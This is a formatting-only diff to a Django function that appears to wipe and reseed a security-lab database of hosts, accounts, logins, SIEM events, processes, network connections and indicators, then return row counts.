+            NetworkEvent,
+            ProcessEvent,
+            Login,
+            SiemEvent,
+            Indicator,
+            Ticket,
+            Account,
+            Host,
+            LabWrite,
+            LabEstate,
+        ):
             model.objects.all().delete()
         Host.objects.bulk_create(b.hosts.values())  # primary keys come back on PostgreSQL and SQLite
         for row in b.processes + b.connections:
             row.host_id = row.host.pk
         Account.objects.bulk_create(b.accounts.values())
-        for model, rows in ((Login, b.logins), (SiemEvent, b.events), (ProcessEvent, b.processes),
-                            (NetworkEvent, b.connections), (Indicator, b.indicators)):
+        for model, rows in (
+            (Login, b.logins),
+            (SiemEvent, b.events),
+            (ProcessEvent, b.processes),
+            (NetworkEvent, b.connections),
+            (Indicator, b.indicators),
+        ):
             model.objects.bulk_create(rows, batch_size=500)
         faults.clear()
         LabEstate.objects.create(seed=seed, seeded_at=now)
     return {
-        "hosts": len(b.hosts), "accounts": len(b.accounts), "logins": len(b.logins), "events": len(b.events),
-        "processes": len(b.processes), "connections": len(b.connections), "indicators": len(b.indicators),
+        "hosts": len(b.hosts),
+        "accounts": len(b.accounts),
+        "logins": len(b.logins),
+        "events": len(b.events),
+        "processes": len(b.processes),
+        "connections": len(b.connections),
+        "indicators": len(b.indicators),
     }
 
 
